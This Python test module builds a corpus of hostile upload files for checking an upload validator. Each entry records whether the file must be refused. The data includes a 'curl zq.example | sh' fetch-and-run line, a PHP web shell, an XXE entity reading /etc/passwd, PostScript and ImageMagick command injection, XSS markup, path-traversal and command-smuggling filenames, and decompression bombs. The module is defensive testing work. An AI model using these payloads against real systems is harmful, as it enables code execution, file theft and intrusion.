"""More than 300 files as an attacker would send them, each with what must become of it."""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from PIL import Image

from tests.attack import hostile_documents
from tests.uploads.files import bomb, gif, jpeg, pdf, png


@dataclass(frozen=True)
class Hostile:
    """A file, and whether it must be refused; if not, it may be taken, and what is shown of it must be harmless."""

    what: str
    name: str
    content: bytes
    refuse: bool = True


PAYLOAD: Final = b"zq-payload"
MARKUP: Final = b"<!doctype html><script>alert('zq-payload')</script>"
ENDINGS: Final = (".pdf", ".png", ".jpg", ".jpeg")
NO_PROOFS: Final = {
    "a web page": MARKUP,
    "a drawing with a script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "a drawing after a head": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>",
    "an archive": b"PK\x03\x04" + bytes(200),
    "an old document with macros": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a program for Windows": b"MZ" + bytes(300),
    "a program for Linux": b"\x7fELF" + bytes(300),
    "a script": b"#!/bin/sh\ncurl zq.example | sh\n",
    "a page of PHP": b"<?php system($_GET['c']); ?>",
    "a GIF that is a script": b"GIF89a/*" + bytes(20) + b"*/=alert(1)//",
    "PostScript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
    "a drawing program's script": b"push graphic-context\nfill 'url(https://zq.example/\"|id\")'\n",
    "a film": b"\0\0\0\x18ftypmp42" + bytes(100),
    "a WebP": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(30),
    "a TIFF": b"II*\0\x08\0\0\0" + bytes(200),
    "a BMP": b"BM" + bytes(200),
    "rich text": b"{\\rtf1{\\object\\objautlink zq}}",
    "a letter in a letter": b"From: a@b\r\nContent-Type: text/html\r\n\r\n" + MARKUP,
    "zero bytes": bytes(4096),
    "nothing": b"",
}
ENDINGS_REFUSED: Final = (
    ".svg", ".html", ".xhtml", ".php", ".phtml", ".exe", ".js", ".gif", ".webp", ".tiff", ".docm", ".xlsm", ".zip", ".sh",
    ".py", ".jar", ".lnk", ".url", ".hta", ".swf", ".eml", ".mht", ".pdf.exe", ".png.html", ".jpg.svg", "", ".", ".pdf ;.asp",
)  # fmt: skip
NAMES: Final = (
    "../../../../etc/passwd.png", "..\\..\\windows\\system.ini.png", "/etc/cron.d/zq.png", "C:\\autoexec.png", "file:///etc/x.png",
    "....//....//x.png", "%2e%2e%2fx.png", "..%c0%afx.png", ".htaccess.png", "~/.ssh/keys.png", "con.png", "aux.png", "nul.png",
    "a\x00b.png", "a\r\nX-Zq-Evil: 1.png", "a\nb.png", "a\tb.png", "a\x1b[31mred.png", "a\x7fb.png", "\u202egpj.png",
    "photo\u202egnp.png", "a\u2066b\u2069.png", "\ufeffa.png", "zero\u200bwidth.png", "<script>alert(1)</script>.png",
    '"><img src=x onerror=alert(1)>.png', "{{7919*7907}}.png", "${7919*7907}.png", "=cmd|'/C calc'!A0.png", "@SUM(1).png",
    "a;b&c|d`id`$(id).png", "' OR 1=1 --.png", "x" * 300 + ".png", "é" * 200 + ".png", "Łódź 中文 العربية.png", "a'b\"c.png",
    "a" + "\u0301" * 100 + ".png", " .png", "\u2028\u2029.png", "…….png",
)  # fmt: skip


def all_of_them(seed: int = 1) -> list[Hostile]:
    """Every file; the seed says where some are damaged."""
    return [*_documents(seed), *_pictures(seed), *_disguised(), *_endings(), *_names()]


def _documents(seed: int) -> Iterator[Hostile]:
    for what, content in (*hostile_documents.acting(), *hostile_documents.impossible()):
        yield Hostile(f"PDF: {what}", "license.pdf", content)
    for what, content in (*hostile_documents.endless(), *hostile_documents.doubled()):
        yield Hostile(f"PDF: {what}", "license.pdf", content, refuse=False)
    for what, content in hostile_documents.damaged(seed, 12):
        yield Hostile(f"PDF: {what}", "license.pdf", content, refuse=False)


def _pictures(seed: int) -> Iterator[Hostile]:
    for side in (6_400, 7_000, 30_000, 65_535):
        yield Hostile(f"PNG that says {side} x {side}", "card.png", bomb(side))
    large = bytearray(jpeg())
    at = large.index(b"\xff\xc0") + 5
    large[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    yield Hostile("JPEG that says 65500 x 65500", "card.jpg", bytes(large))
    for what, kind in (("text", b"zTXt"), ("profile", b"iCCP")):
        packed = kind + b"a\0\0" + zlib.compress(bytes(80_000_000), 9)
        chunk = struct.pack(">I", len(packed) - 4) + packed + struct.pack(">I", zlib.crc32(packed))
        good = png()
        yield Hostile(f"PNG with 80 MB of {what} in 80 kB", "card.png", good[:33] + chunk + good[33:], refuse=False)
    for name, good in (("card.png", png()), ("card.jpg", jpeg())):
        for part in (10, 40, len(good) // 4, len(good) // 2):
            yield Hostile(f"the first {part} bytes of {name}", name, good[:part])
        for what, after in (("page", MARKUP), ("archive", b"PK\x03\x04" + PAYLOAD), ("document", pdf() + PAYLOAD)):
            yield Hostile(f"{name} and a {what}", name, good + after, refuse=False)
        chance = random.Random(seed)
        for number in range(8):
            changed = bytearray(good)
            for _ in range(chance.randint(1, 30)):
                changed[chance.randrange(16, len(changed))] = chance.randrange(256)
            yield Hostile(f"{name} damaged {number}", name, bytes(changed), refuse=False)
    yield Hostile("JPEG with a page as comment", "card.jpg", _commented(), refuse=False)


def _commented() -> bytes:
    answer = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(answer, "JPEG", comment=MARKUP)
    return answer.getvalue()


def _disguised() -> Iterator[Hostile]:
    for what, content in NO_PROOFS.items():
        for ending in ENDINGS:
            yield Hostile(f"{what} named {ending}", f"card{ending}", content)
    good = {".pdf": pdf(), ".png": png(), ".jpg": jpeg(), ".gif": gif()}
    for is_, content in good.items():
        for said in (".pdf", ".png", ".jpg"):
            if is_ != said:
                yield Hostile(f"a {is_} named {said}", f"card{said}", content)


def _endings() -> Iterator[Hostile]:
    for ending in ENDINGS_REFUSED:
        yield Hostile(f"a picture named {ending!r}", f"card{ending}", png())
    yield Hostile("a name that reads .png and is .exe", "photo\u202egnp.exe", png())


def _names() -> Iterator[Hostile]:
    for name in NAMES:
        yield Hostile(f"a name: {name[:40]!r}", name, png((30, 20)), refuse=False)
